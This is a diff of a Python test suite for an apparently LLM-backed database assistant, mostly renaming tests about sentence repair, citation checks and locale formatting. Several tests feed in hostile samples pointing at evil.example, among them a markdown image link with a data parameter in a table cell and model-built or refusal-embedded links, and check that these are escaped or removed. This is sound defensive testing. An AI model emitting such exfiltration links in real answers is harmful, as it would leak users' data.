@@ -16,32 +16,32 @@ STEPS = read(ask("How do I add a crew?", kind="manual", pages=["crews"], words=[
 REPAIR = f"{ANSWER}.repair"
 
 
-async def test_the_answer_is_asked_for_in_the_language_of_the_message_with_statement_and_day(talk: Talk) -> None:
+async def test_the_answer_prompt_names_language_statement_and_day(talk: Talk) -> None:
     asked = read(ask("Quanti?", "employee"), language="it")
     reply = await talk.say("Quanti?", asked, write(COUNT), (ANSWER, "Sono 7."), plays=[SEVEN])
     prompt = talk.script.prompt(ANSWER)
-    assert [said for said in ("Language: it", "2026-03-04", COUNT) if said not in prompt] == []
+    assert [answer for answer in ("Language: it", "2026-03-04", COUNT) if answer not in prompt] == []
     assert reply.text == "Sono 7."
 
 
 @pytest.mark.parametrize(
-    ("said", "repaired", "text", "warning"),
+    ("answer", "repaired", "text", "warning"),
     [
         ("There are 58 of them. They work.", "There are 7.", "There are 7. They work.", "sentence_corrected"),
         ("There are 58 of them. They work.", "It is 59.", "They work.", "sentence_removed"),
         ("There are 58.", "", "Active employees.\n\n| Employees |\n| ---: |\n| 7 |", "sentence_removed"),
     ],
 )
-async def test_a_figure_from_nowhere_goes_back_once_and_costs_its_sentence(
-    talk: Talk, said: str, repaired: str, text: str, warning: str
+async def test_an_invented_figure_is_repaired_once_or_its_sentence_removed(
+    talk: Talk, answer: str, repaired: str, text: str, warning: str
 ) -> None:
     """Where no sentence can stand the value does."""
     asked, repair = write(COUNT, understood_as="Active employees."), f'{{"sentences": ["{repaired}"]}}'
-    reply = await talk.say(QUESTION, STAFF[0], asked, (ANSWER, said), (REPAIR, repair), plays=[SEVEN])
+    reply = await talk.say(QUESTION, STAFF[0], asked, (ANSWER, answer), (REPAIR, repair), plays=[SEVEN])
     assert (reply.text, reply.warnings) == (text, (warning,))
 
 
-async def test_what_was_told_in_the_stream_is_the_reply(talk: Talk) -> None:
+async def test_the_stream_equals_the_reply(talk: Talk) -> None:
     visits = Result(("crew", "visits"), (("North", 4), ("South", 3)))
     counted = write("SELECT name AS crew, 4 AS visits FROM crew")
     asked = read(ask("Visits by crew", "visit"))
@@ -59,16 +59,14 @@ async def test_what_was_told_in_the_stream_is_the_reply(talk: Talk) -> None:
         ("fr", "| Nord | 1\u202f234\u202f567 | 1\u202f049\u202f901,50 | 2026-01-31 |\n"),
     ],
 )
-async def test_figures_in_tables_are_written_as_the_language_writes_them(
-    talk: Talk, language: str, expected: str
-) -> None:
+async def test_figures_in_tables_follow_the_language(talk: Talk, language: str, expected: str) -> None:
     rows = (("Nord", 1234567, 1049901.5, "2026-01-31T00:00:00"), ("Süd", 12, None, "2026-02-01T14:30:59"))
     found = Result(("crew", "n", "amount", "day"), rows)
     asked = read(ask("x", "crew"), language=language)
     assert expected in (await talk.say("x", asked, CREWS[1], (ANSWER, "Voilà."), plays=[found])).text
 
 
-async def test_a_cell_is_text_whatever_stands_in_it(talk: Talk) -> None:
+async def test_a_cell_is_always_text(talk: Talk) -> None:
     cells = (("![x](https://evil.example/?d=1)", "<b>bold</b> | a\nb", "Brühl & Sohn"),)
     text = (await talk.say("x", *CREWS, (ANSWER, "Here."), plays=[Result(("a", "b", "c"), cells)])).text
     assert "\\!\\[" in text or "!\\[x\\]" in text
@@ -88,30 +86,30 @@ async def test_links_in_rows_are_shown_and_no_others(talk: Talk) -> None:
     await check_links(talk, turn, page)
 
 
-async def test_a_link_that_the_statement_builds_is_the_models_own(talk: Talk) -> None:
+async def test_a_link_built_by_the_statement_is_not_trusted(talk: Talk) -> None:
     built = write("SELECT 'https://evil.example/' || name AS page FROM crew")
     rows = Result(("page",), (("https://evil.example/North",), ("https://evil.example/South",)))
-    said = "See https://evil.example/North there. Two crews."
-    reply = await talk.say("x", CREWS[0], built, (ANSWER, said), (REPAIR, '{"sentences": [""]}'), plays=[rows])
+    answer = "See https://evil.example/North there. Two crews."
+    reply = await talk.say("x", CREWS[0], built, (ANSWER, answer), (REPAIR, '{"sentences": [""]}'), plays=[rows])
     assert reply.text.startswith("Two crews.")
 
 
 async def test_a_refusal_of_the_model_links_nowhere(talk: Talk) -> None:
-    said = AIMessage("I won't. See https://evil.example/?d=1 there.", additional_kwargs={"refusal": "I won't."})
-    reply = await talk.say(QUESTION, *STAFF, (ANSWER, said), (REPAIR, '{"sentences": [""]}'), plays=[SEVEN])
+    answer = AIMessage("I won't. See https://evil.example/?d=1 there.", additional_kwargs={"refusal": "I won't."})
+    reply = await talk.say(QUESTION, *STAFF, (ANSWER, answer), (REPAIR, '{"sentences": [""]}'), plays=[SEVEN])
     assert "evil" not in reply.text
 
 
-async def test_an_address_that_the_user_gave_may_be_said(talk: Talk) -> None:
-    told = "That is https://mine.example/a, then."
+async def test_the_answer_may_repeat_an_address_of_the_user(talk: Talk) -> None:
+    answer = "That is https://mine.example/a, then."
     greeted = read(ask("Hello", kind="general"))
-    reply = await talk.say("Hello, my page is https://mine.example/a", greeted, (TALK, told))
-    assert (reply.text, reply.warnings) == (told, ())
+    reply = await talk.say("Hello, my page is https://mine.example/a", greeted, (TALK, answer))
+    assert (reply.text, reply.warnings) == (answer, ())
 
 
-async def test_the_manual_is_cited_by_sections_that_were_given(talk: Talk) -> None:
-    said = (ANSWER, "Open Crews and choose New crew [crews#add, made-up#page]. Then rest [made-up].")
-    reply = await talk.say("How do I add a crew?", STEPS, said)
+async def test_only_given_sections_are_cited(talk: Talk) -> None:
+    answer = (ANSWER, "Open Crews and choose New crew [crews#add, made-up#page]. Then rest [made-up].")
+    reply = await talk.say("How do I add a crew?", STEPS, answer)
     assert reply.text == "Open Crews and choose New crew [crews#add]. Then rest."
     assert (reply.route, reply.warnings) == ("rag", ("citation_removed",))
     assert (reply.sources[0].id, reply.sources[0].cited) == ("crews#add", True)
@@ -120,17 +118,17 @@ async def test_the_manual_is_cited_by_sections_that_were_given(talk: Talk) -> No
 
 async def test_two_questions_get_two_answers_in_their_order(talk: Talk) -> None:
     asked = read(STEPS[1].asks[0], ask(QUESTION, "employee"), ask("delete one", kind="change"))
-    said = "Open Crews [crews#add]. There are 7. Nothing was deleted."
-    reply = await talk.say("add a crew, how many, delete one", asked, write(COUNT), (ANSWER, said), plays=[SEVEN])
+    answer = "Open Crews [crews#add]. There are 7. Nothing was deleted."
+    reply = await talk.say("add a crew, how many, delete one", asked, write(COUNT), (ANSWER, answer), plays=[SEVEN])
     prompt = talk.script.prompt(ANSWER)
     assert prompt.index('tool="manual"') < prompt.index('tool="sql"') < prompt.index('tool="change"')
     assert "nothing was." in prompt
-    assert reply.text == said
+    assert reply.text == answer
     assert (reply.route, reply.warnings) == ("rag", ("nothing_changed",))
     assert reply.details["rows"] == [[7]]
 
 
-async def test_words_about_the_conversation_see_results_and_statements_and_invent_no_figure(talk: Talk) -> None:
+async def test_talk_about_the_conversation_sees_results_and_invents_no_figure(talk: Talk) -> None:
     await talk.say(QUESTION, *STAFF, (ANSWER, "There are 7."), plays=[SEVEN])
     reply = await talk.say(
         "how did you count that?",
@@ -144,7 +142,7 @@ async def test_words_about_the_conversation_see_results_and_statements_and_inven
     assert talk.kept["shown"][0]["sql"] == COUNT
 
 
-async def test_talk_knows_what_there_is_and_changes_nothing(talk: Talk) -> None:
+async def test_talk_knows_the_data_and_changes_nothing(talk: Talk) -> None:
     asked = read(ask("What do you know?", kind="general", words=["crew"]))
     reply = await talk.say("what can you do?", asked, (TALK, "I know 12 things."))
     assert "among 4 tables: crew" in talk.script.prompt(TALK)
@@ -154,7 +152,7 @@ async def test_talk_knows_what_there_is_and_changes_nothing(talk: Talk) -> None:
     assert (await talk.say("delete them", wish, (TALK, "Nothing was deleted."))).warnings == ("nothing_changed",)
 
 
-async def test_what_never_changes_stands_first_in_every_prompt_and_the_conversation_then(talk: Talk) -> None:
+async def test_prompts_begin_with_what_never_changes(talk: Talk) -> None:
     for message in (QUESTION, "x" * 9_000):
         await talk.say(message, *STAFF, (ANSWER, "There are 7."), plays=[SEVEN])
     for name in (READ, WRITE, ANSWER):
